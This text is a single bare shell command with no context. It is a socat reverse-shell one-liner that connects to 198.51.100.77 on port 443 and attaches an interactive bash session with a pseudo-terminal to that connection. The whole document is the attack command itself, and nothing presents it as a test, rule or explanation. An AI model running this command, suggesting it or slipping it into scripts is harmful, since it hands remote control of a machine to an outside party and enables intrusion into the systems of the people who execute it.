socat TCP:198.51.100.77:443 EXEC:/bin/bash,pty,stderr,setsid
